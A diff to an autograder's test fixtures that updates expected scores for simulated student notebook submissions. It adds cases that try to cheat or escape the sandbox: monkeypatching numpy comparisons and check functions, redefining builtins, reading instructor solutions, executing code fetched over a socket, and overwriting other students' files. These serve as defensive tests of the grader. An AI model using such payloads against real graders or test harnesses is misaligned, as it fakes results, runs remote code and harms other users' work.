@@ -6,7 +6,7 @@ for the honest ones.
 A case's ``files(answers)`` returns the submission's files as ``{name: text}``; ``answers(**cells)``
 is the reference solution's notebook with the named solution cells (by grade_id) replaced. In the
 texts, CLASS_DIR and COURSE_DIR stand for the class's and the course's folders (an attacker may
-know them). Chapter 1 has 8 exercises worth 3 points each (1 visible + 2 hidden): 24 in all; the
+know them). Chapter 1 has 9 exercises worth 3 points each (1 visible + 2 hidden): 27 in all; the
 l1 cell is cell 13, after sigmoid and mse (6 points).
 
 The caps the test grades with (tests/test_broken_submissions.py sets them low, and each case below
@@ -72,56 +72,56 @@ def as_markdown(nb, name):
 
 
 CASES = [
-    dict(student="ada", about="everything right, graded in the same batch", score=24,
-         files=lambda answers: notebook(answers()), says="Score: 24"),
-    dict(student="raises", about="l1 raises an exception when called", score=21,
+    dict(student="ada", about="everything right, graded in the same batch", score=27,
+         files=lambda answers: notebook(answers()), says="Score: 27"),
+    dict(student="raises", about="l1 raises an exception when called", score=24,
          files=lambda answers: notebook(answers(l1="def l1(y_pred, y):\n    raise ValueError('l1 is broken')\n")),
          says="ValueError"),
-    dict(student="loops", about="an infinite loop in the l1 cell", score=21,
+    dict(student="loops", about="an infinite loop in the l1 cell", score=24,
          files=lambda answers: notebook(answers(l1="while True:\n    pass\n")), says="Timeout"),
-    dict(student="crashes", about="the l1 cell kills the kernel (os._exit)", score=21,
+    dict(student="crashes", about="the l1 cell kills the kernel (os._exit)", score=24,
          files=lambda answers: notebook(answers(l1="import os\nos._exit(1)\n")), says="KernelDied"),
-    dict(student="floods", about="100 MB of output on one line, then a right l1", score=24,
+    dict(student="floods", about="100 MB of output on one line, then a right l1", score=27,
          files=lambda answers: notebook(answers(l1="print('x' * 100_000_000)\n" + RIGHT_L1)),
          says="more characters cut by the grader"),
     dict(student="garbled", about="a notebook that is not valid JSON", score=0,
          files=lambda answers: {NOTEBOOK: '{"cells": [{"cell_type": "code", "source": "def sigmoid(z'},
          says="not valid JSON (line 1"),
-    dict(student="kernel", about="a wrong kernel name", score=24,
+    dict(student="kernel", about="a wrong kernel name", score=27,
          files=lambda answers: notebook(with_kernel(answers(), {"name": "python2", "display_name": "Python 2",
-                                                                "language": "python"})), says="Score: 24"),
-    dict(student="nokernel", about="no kernel named at all", score=24,
-         files=lambda answers: notebook(with_kernel(answers(), None)), says="Score: 24"),
-    dict(student="deletes", about="the visible test of l1 deleted", score=24,
+                                                                "language": "python"})), says="Score: 27"),
+    dict(student="nokernel", about="no kernel named at all", score=27,
+         files=lambda answers: notebook(with_kernel(answers(), None)), says="Score: 27"),
+    dict(student="deletes", about="the visible test of l1 deleted", score=27,
          files=lambda answers: notebook(cells_where(answers(), lambda cell: grade_id(cell) != "test_l1")),
          says="was missing from the submission. It was added back"),
-    dict(student="copies", about="the l1 solution cell copied and pasted below itself", score=24,
-         files=lambda answers: notebook(duplicated(answers(), "l1")), says="Score: 24"),
-    dict(student="markdown", about="the l1 solution cell turned into Markdown", score=24,
-         files=lambda answers: notebook(as_markdown(answers(), "l1")), says="Score: 24"),
-    dict(student="warns", about="a right sigmoid that warns on stderr", score=24,
+    dict(student="copies", about="the l1 solution cell copied and pasted below itself", score=27,
+         files=lambda answers: notebook(duplicated(answers(), "l1")), says="Score: 27"),
+    dict(student="markdown", about="the l1 solution cell turned into Markdown", score=27,
+         files=lambda answers: notebook(as_markdown(answers(), "l1")), says="Score: 27"),
+    dict(student="warns", about="a right sigmoid that warns on stderr", score=27,
          files=lambda answers: notebook(answers(sigmoid=(
              "import warnings\n\ndef sigmoid(z):\n    warnings.warn('z may be large', RuntimeWarning)\n"
-             "    return 0.5 * (1 + np.tanh(z / 2))\n"))), says="Score: 24"),
-    dict(student="shape", about="mse returns the squared errors, not their mean", score=21,
+             "    return 0.5 * (1 + np.tanh(z / 2))\n"))), says="Score: 27"),
+    dict(student="shape", about="mse returns the squared errors, not their mean", score=24,
          files=lambda answers: notebook(answers(mse="def mse(y_pred, y):\n    return (y_pred - y) ** 2\n")),
          says="shape"),
-    dict(student="dtype", about="mse returns float16", score=21,
+    dict(student="dtype", about="mse returns float16", score=24,
          files=lambda answers: notebook(answers(
              mse="def mse(y_pred, y):\n    return np.mean((y_pred - y) ** 2).astype(np.float16)\n")),
          says="float16"),
-    dict(student="renamed", about="the notebook handed in as losses-Copy1.ipynb", score=24,
+    dict(student="renamed", about="the notebook handed in as losses-Copy1.ipynb", score=27,
          files=lambda answers: notebook(answers(), "losses-Copy1.ipynb"),
          says="handed in as losses-Copy1.ipynb and graded as losses.ipynb"),
     dict(student="missing", about="only an unrelated notebook handed in, with another", score=0,
          files=lambda answers: {**notebook(answers(), "scratch.ipynb"), **notebook(answers(), "other.ipynb")},
          says="No notebook named losses.ipynb was handed in"),
     # Attempts to cheat: mse is wrong (L1 instead of squared errors) and something tries to hide it.
-    dict(student="liar", about="mse returns an object that says it equals anything", score=21,
+    dict(student="liar", about="mse returns an object that says it equals anything", score=24,
          files=lambda answers: notebook(answers(mse=(
              "class Anything:\n    def __eq__(self, other):\n        return True\n\n    __hash__ = None\n\n"
              "def mse(y_pred, y):\n    return Anything()\n"))), says="expected numbers"),
-    dict(student="patcher", about="a wrong mse, and numpy's comparisons and np.abs patched to agree", score=21,
+    dict(student="patcher", about="a wrong mse, and numpy's comparisons and np.abs patched to agree", score=24,
          files=wrong_mse_then(
              "np.allclose = np.array_equal = lambda *args, **kwargs: True\n"
              "np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), bool)\n"
@@ -129,37 +129,37 @@ CASES = [
              "torch.allclose = lambda *args, **kwargs: True\n"
              "np.abs = np.absolute = lambda x, *args, **kwargs: 0 * np.asarray(x)\n"),
          says="values differ"),
-    dict(student="helpers", about="a wrong mse, and the course's check functions replaced by no-ops", score=21,
+    dict(student="helpers", about="a wrong mse, and the course's check functions replaced by no-ops", score=24,
          files=wrong_mse_then(
              "import trainlab.checks, trainlab.grading\n"
              "trainlab.checks.check_close = trainlab.grading.check_against_reference = lambda *args, **kwargs: None\n"
              "check_close = lambda *args, **kwargs: None\n"), says="values differ"),
     dict(student="builtins", about="a wrong mse, and built-ins redefined: abs and sum in builtins, isinstance and "
-         "len in the notebook", score=21, files=wrong_mse_then(
+         "len in the notebook", score=24, files=wrong_mse_then(
              "import builtins\nbuiltins.abs = builtins.sum = lambda *args, **kwargs: 0\n"
              "isinstance = lambda *args: True\nlen = lambda *args: 0\n"), says="values differ"),
-    dict(student="swallower", about="a wrong mse, and every exception of later cells swallowed", score=21,
+    dict(student="swallower", about="a wrong mse, and every exception of later cells swallowed", score=24,
          files=wrong_mse_then(
              "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"),
          says="values differ"),
     # Attempts to get out of the sandbox: each would earn the mse points, or harm the class, if it worked.
-    dict(student="peeker", about="a wrong mse, replaced by the instructor notebook's if it can be read", score=21,
+    dict(student="peeker", about="a wrong mse, replaced by the instructor notebook's if it can be read", score=24,
          files=wrong_mse_then(
              "import json\nfrom trainlab.grading import solutions_dir\ntry:\n"
              "    cells = json.loads((solutions_dir() / '01_losses' / 'losses.ipynb').read_text())['cells']\n"
              "    exec(next(''.join(c['source']) for c in cells if c['metadata'].get('nbgrader', {}).get('grade_id')"
              " == 'mse'))\nexcept OSError as error:\n    print('could not read the solutions:', error)\n"),
          says="could not read the solutions"),
-    dict(student="borrower", about="mse taken from trainlab.grading.reference", score=21,
+    dict(student="borrower", about="mse taken from trainlab.grading.reference", score=24,
          files=lambda answers: notebook(answers(mse=(
              "from trainlab.grading import reference\nmse = reference('01_losses', 'mse')\n"))),
          says="keeps the reference solution's mse (01_losses) to itself"),
     dict(student="caller", about="a wrong mse, replaced by one fetched over the network if it can be reached",
-         score=21, files=wrong_mse_then(
+         score=24, files=wrong_mse_then(
              f"import socket\ntry:\n    with socket.create_connection({SOLUTION_SERVER}, timeout=5) as server:\n"
              "        exec(server.recv(10_000).decode())\nexcept OSError as error:\n"
              "    print('no network:', error)\n"), says="no network"),
-    dict(student="vandal", about="a wrong mse, and the gradebook and every other submission overwritten", score=21,
+    dict(student="vandal", about="a wrong mse, and the gradebook and every other submission overwritten", score=24,
          files=wrong_mse_then(
              "from pathlib import Path\nclass_dir = Path.cwd().parents[2]\n"
              "others = [path for path in class_dir.glob('*/*/01_losses/*.ipynb') if path.parent != Path.cwd()]\n"
